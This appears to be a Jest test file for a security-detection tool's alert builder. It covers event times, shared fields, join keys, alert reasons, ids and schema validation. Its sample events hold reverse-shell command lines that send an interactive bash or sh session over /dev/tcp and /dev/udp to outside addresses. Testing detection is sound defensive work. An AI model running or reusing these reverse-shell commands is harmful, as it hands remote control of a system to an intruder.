import { describe, expect, test } from '@jest/globals';
import { AlertBuilder, buildAlert, type Alert, type MatchedEvent } from '../../src/alert/index.js';
import type { JsonObject } from '../../src/event/index.js';
import type { Rule } from '../../src/rule/index.js';
import {
  BACKGROUND_SHELL,
  CONNECTION,
  eventAt,
  fileOpened,
  INTERACTIVE_SHELL,
  keyOf,
  ruleWith,
  sampleBy,
  sequenceBy,
  sha256,
  udpCall,
} from '../support/alerts.js';
import { validatorOf } from '../support/schemas.js';

const ID = '0'.repeat(32);

function build(
  documents: readonly (JsonObject | null)[],
  { rule = ruleWith(), key = keyOf() }: { rule?: Rule; key?: ReturnType<typeof keyOf> } = {},
): Alert {
  const events = documents.map((document, index) =>
    document === null ? null : eventAt(index + 1, document),
  );
  return buildAlert({ rule, events, key }, ID);
}

const SEQUENCE = ruleWith({
  query: sequenceBy([
    ['host.id', 'process.entity_id'],
    ['host.id', 'process.parent.entity_id'],
  ]),
});

describe('times', () => {
  test('span from the earliest to the latest event, exact to the nanosecond', () => {
    const alert = build([CONNECTION, INTERACTIVE_SHELL], { rule: SEQUENCE });
    expect(alert.event).toEqual({
      start: '2026-11-20T08:14:01.7022135Z',
      end: '2026-11-20T08:14:02.118Z',
      duration: 415_786_500,
    });
    expect(alert.event_time).toBe('2026-11-20T08:14:02.118Z');
    expect(alert.events.map((event) => event?.after_ns)).toEqual([0, 415_786_500]);
  });

  test('events of a sample in any order of time', () => {
    const rule = ruleWith({ query: sampleBy(['host.id'], 2) });
    const alert = build([udpCall('connect'), udpCall('execve')], { rule });
    expect(alert.event.start).toBe('2026-11-21T04:14:01.100Z');
    expect(alert.events.map((event) => event?.after_ns)).toEqual([8_000_000, 0]);
  });

  test('null without a timestamp', () => {
    const alert = build([{ process: { name: 'sh' } }]);
    expect(alert.event).toEqual({ start: null, end: null, duration: null });
    expect(alert.event_time).toBeNull();
    expect(alert.events[0]).toMatchObject({ time: null, after_ns: null });
  });
});

describe('what all events agree on', () => {
  test.each<{ name: string; documents: (JsonObject | null)[]; expected: Partial<Alert> }>([
    {
      name: 'one event: its host, user, process and parent',
      documents: [INTERACTIVE_SHELL],
      expected: {
        host: { id: '9f2c1c9b8e7d4f6a', name: 'web-01' },
        user: { id: '33', name: 'www-data' },
        process: {
          pid: 4412,
          name: 'bash',
          executable: '/usr/bin/bash',
          command_line: 'bash -i',
          title: null,
          entity_id: 'YWdlbnQtNDQxMg==',
          parent: {
            pid: 4410,
            name: 'bash',
            executable: '/usr/bin/bash',
            command_line: 'bash -c exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1',
            title: null,
            entity_id: 'YWdlbnQtNDQxMA==',
          },
        },
      },
    },
    {
      name: 'two processes: only what is alike in both',
      documents: [CONNECTION, INTERACTIVE_SHELL],
      expected: {
        host: { id: '9f2c1c9b8e7d4f6a', name: 'web-01' },
        user: { id: '33', name: 'www-data' },
        process: {
          pid: null,
          name: 'bash',
          executable: '/usr/bin/bash',
          command_line: null,
          title: null,
          entity_id: null,
          parent: {
            pid: null,
            name: null,
            executable: null,
            command_line: null,
            title: null,
            entity_id: null,
          },
        },
      },
    },
    {
      name: 'one process, told of in part by each event',
      documents: [udpCall('execve'), udpCall('connect')],
      expected: {
        process: {
          pid: 25407,
          name: 'bash',
          executable: null,
          command_line: 'bash -c sh -i >& /dev/udp/10.99.0.2/53 0>&1',
          title: 'bash -c sh -i >& /dev/udp/10.99.0.2/53 0>&1',
          entity_id: null,
          parent: {
            pid: 25405,
            name: null,
            executable: null,
            command_line: null,
            title: null,
            entity_id: null,
          },
        },
      },
    },
    {
      name: 'a missing event does not disagree',
      documents: [null, CONNECTION, null],
      expected: { user: { id: '33', name: 'www-data' } },
    },
    {
      name: 'an event without the field does not disagree',
      documents: [CONNECTION, { event: { category: 'network' } }],
      expected: { host: { id: '9f2c1c9b8e7d4f6a', name: 'web-01' } },
    },
    {
      name: 'different users: none',
      documents: [CONNECTION, BACKGROUND_SHELL],
      expected: { user: { id: null, name: null } },
    },
    {
      name: 'only missing events: nothing known',
      documents: [null],
      expected: { host: { id: null, name: null }, event_time: null },
    },
  ])('$name', ({ documents, expected }) => {
    expect(build(documents, { rule: SEQUENCE })).toMatchObject(expected);
  });
});

describe('fields of an event', () => {
  test.each<{ name: string; document: JsonObject; expected: object }>([
    {
      name: 'single values and arrays alike',
      document: { event: { category: 'process', action: ['fork', 'exec'], type: ['start'] } },
      expected: {
        event: { category: ['process'], action: ['fork', 'exec'], type: ['start'], outcome: null },
      },
    },
    {
      name: 'every value an array, keys dotted, as in `fields` of an export',
      document: { 'process.pid': [7], 'process.name': ['nc'], 'event.action': [''] },
      expected: {
        process: expect.objectContaining({ pid: 7, name: 'nc' }),
        event: expect.objectContaining({ action: [] }),
      },
    },
    {
      name: 'ports and pids as digits',
      document: { process: { pid: '123' }, destination: { ip: '::1', port: '53' } },
      expected: {
        process: expect.objectContaining({ pid: 123 }),
        destination: { ip: '::1', port: 53 },
      },
    },
    {
      name: 'a pid that is no number',
      document: { process: { pid: '0x1f', args: ['sh', '-c', 'id'], title: 'sh -c' } },
      expected: { process: expect.objectContaining({ pid: null, command_line: 'sh -c id' }) },
    },
    {
      name: 'a title is no command line',
      document: { process: { title: 'sshd: root' } },
      expected: { process: expect.objectContaining({ command_line: null, title: 'sshd: root' }) },
    },
    {
      name: 'host.hostname where there is no host.name; syscall of auditd; file',
      document: {
        host: { hostname: 'db' },
        auditd: { data: { syscall: 'open' } },
        file: { path: '/etc/passwd' },
      },
      expected: { host: { id: null, name: 'db' }, syscall: 'open', file: { path: '/etc/passwd' } },
    },
  ])('$name', ({ document, expected }) => {
    const [event] = build([document]).events;
    expect(event).toMatchObject(expected);
    expect(event?.document).toBe(document);
  });

  test('where it stands, and what it is called in an export', () => {
    const place = { file: 'a.json', line: 3, offset: 99, index: 2 };
    const event = eventAt(1, CONNECTION, { place, id: 'Xy1', indexName: 'logs-endpoint' });
    const alert = buildAlert({ rule: ruleWith(), events: [event], key: keyOf() }, ID);
    expect(alert.events[0]).toMatchObject({ _id: 'Xy1', _index: 'logs-endpoint', place });
  });
});

describe('join keys', () => {
  test('of a sequence name the field of each stage, once', () => {
    const alert = build([CONNECTION, INTERACTIVE_SHELL], {
      rule: SEQUENCE,
      key: keyOf('9f2c', 'YWdl'),
    });
    expect(alert.join_keys).toEqual([
      { fields: ['host.id'], value: '9f2c' },
      { fields: ['process.entity_id', 'process.parent.entity_id'], value: 'YWdl' },
    ]);
  });

  test('of a sample; an optional key may be null', () => {
    const rule = ruleWith({ query: sampleBy(['host.id', 'process.pid'], 2) });
    const alert = build([fileOpened('/a', 1), fileOpened('/b', 2)], { rule, key: keyOf(null, 7) });
    expect(alert.join_keys).toEqual([
      { fields: ['host.id'], value: null },
      { fields: ['process.pid'], value: 7 },
    ]);
  });

  test('an event query has none', () => {
    expect(build([CONNECTION]).join_keys).toEqual([]);
  });
});

test.each<{ name: string; alert: Alert; reason: string }>([
  {
    name: 'event',
    alert: build([INTERACTIVE_SHELL]),
    reason: 'process event exec of bash (pid 4412), child of bash, by www-data, on web-01',
  },
  {
    name: 'network event',
    alert: build([CONNECTION]),
    reason:
      'network event connection_attempted of bash (pid 4410), to 203.0.113.7 port 4444, by www-data, on web-01',
  },
  { name: 'empty event', alert: build([{}]), reason: 'uncategorized event' },
  {
    name: 'sequence',
    alert: build([CONNECTION, INTERACTIVE_SHELL], { rule: SEQUENCE, key: keyOf('a', 'b') }),
    reason:
      'sequence of 2 events within 0.416 s, by host.id, process.entity_id = process.parent.entity_id, on web-01',
  },
  {
    name: 'sequence with a missing event',
    alert: build([CONNECTION, null], { rule: ruleWith({ query: sequenceBy([[], []], [1]) }) }),
    reason: 'sequence of 1 event and 1 missing, on web-01',
  },
])('reason: $name', ({ alert, reason }) => {
  expect(alert.reason).toBe(reason);
});

test('a reason stays short, and never splits a character', () => {
  const alert = build([{ process: { name: `${'x'.repeat(79)}😀${'y'.repeat(1_000_000)}` } }]);
  expect(alert.reason).toBe(`uncategorized event of ${'x'.repeat(79)}…`);
});

describe('ids', () => {
  const idOf = (events: readonly (MatchedEvent | null)[], rule: Rule = ruleWith()): string =>
    new AlertBuilder(sha256).build({ rule, events, key: keyOf() }).id;
  const known = idOf([eventAt(1, CONNECTION)]);
  const exported = eventAt(1, CONNECTION, { id: 'Xy1', indexName: 'logs-1' });

  test('are 32 hexadecimal digits', () => {
    expect(known).toMatch(/^[0-9a-f]{32}$/);
  });

  test.each<{ name: string; id: string }>([
    { name: 'the event stands elsewhere', id: idOf([eventAt(77, CONNECTION)]) },
    {
      name: 'its file has another name',
      id: idOf([eventAt(1, CONNECTION, { place: { file: 'b', line: 9, offset: 1, index: 4 } })]),
    },
    {
      name: 'its keys are in another order',
      id: idOf([eventAt(1, Object.fromEntries(Object.entries(CONNECTION).reverse()))]),
    },
    {
      name: 'the prose of the rule changed',
      id: idOf([eventAt(1, CONNECTION)], ruleWith({ note: '' })),
    },
  ])('stay when $name', ({ id }) => {
    expect(id).toBe(known);
  });

  test.each<{ name: string; id: string }>([
    { name: 'rule', id: idOf([eventAt(1, CONNECTION)], ruleWith({ id: 'other' })) },
    { name: 'version of the rule', id: idOf([eventAt(1, CONNECTION)], ruleWith({ version: 12 })) },
    { name: 'event', id: idOf([eventAt(1, INTERACTIVE_SHELL)]) },
    { name: 'number of events', id: idOf([eventAt(1, CONNECTION), null]) },
    {
      name: 'value of `__proto__`',
      id: idOf([eventAt(1, JSON.parse('{"__proto__":1}') as JsonObject)]),
    },
    { name: 'identity in an export', id: idOf([exported]) },
  ])('differ by $name', ({ id }) => {
    expect(id).not.toBe(known);
  });

  test('an exported event is known by index and id, however it was exported', () => {
    const asFields = { ...exported, document: { 'process.pid': [4410] } };
    expect(idOf([asFields])).toBe(idOf([exported]));
    expect(idOf([{ ...exported, indexName: 'logs-2' }])).not.toBe(idOf([exported]));
  });

  test('an event of the audit log is known by host, time and serial, however much is told of it', () => {
    const told = {
      '@timestamp': '2026-11-20T08:14:01.702Z',
      host: { id: 'h' },
      auditd: { sequence: 7 },
    };
    const of = (changes: JsonObject): string => idOf([eventAt(1, { ...told, ...changes })]);
    expect(of({ process: { title: 'sh' }, tags: ['exec'] })).toBe(of({}));
    expect(of({ auditd: { sequence: '7', session: '1' } })).toBe(of({}));
    expect(of({ auditd: { sequence: 8 } })).not.toBe(of({}));
    expect(of({ host: { id: 'i' } })).not.toBe(of({}));
    expect(of({ '@timestamp': '2026-11-20T08:14:01.703Z' })).not.toBe(of({}));
  });

  test('an event that stands in the input twice gives two ids, whatever else is between', () => {
    const ids = (documents: readonly JsonObject[]): string[] => {
      const builder = new AlertBuilder(sha256);
      return documents.map(
        (document, index) =>
          builder.build({ rule: ruleWith(), events: [eventAt(index + 1, document)], key: keyOf() })
            .id,
      );
    };
    const one = ids([CONNECTION, INTERACTIVE_SHELL, CONNECTION]);
    const other = ids([CONNECTION, CONNECTION, INTERACTIVE_SHELL]);
    expect(new Set(one).size).toBe(3);
    expect([...one].sort()).toEqual([...other].sort());
  });
});

describe('the published schema', () => {
  const validate = validatorOf('alert', { closed: true });

  test.each<{ name: string; alert: Alert }>([
    { name: 'event', alert: build([BACKGROUND_SHELL]) },
    { name: 'empty event', alert: build([{}]) },
    { name: 'sequence', alert: build([CONNECTION, null, INTERACTIVE_SHELL], { rule: SEQUENCE }) },
    {
      name: 'rule with nothing optional',
      alert: build([CONNECTION], {
        rule: ruleWith({ version: null, license: null, note: null, threat: [], tags: [] }),
      }),
    },
    {
      name: 'time beyond the year 9999',
      alert: build([{ '@timestamp': '+012026-11-20T08:14:02Z' }]),
    },
  ])('describes every key of an alert: $name', ({ alert }) => {
    validate(JSON.parse(JSON.stringify(alert)));
    expect(validate.errors).toBeNull();
  });

  test('lets keys be added', () => {
    const later = { ...build([CONNECTION]), added_in_a_later_version: true };
    expect(validatorOf('alert')(later)).toBe(true);
  });

  test.each(['id', 'events', 'join_keys', 'rule'])('asks for %s', (key) => {
    const entries = Object.entries(build([CONNECTION])).filter(([name]) => name !== key);
    expect(validate(Object.fromEntries(entries))).toBe(false);
  });
});
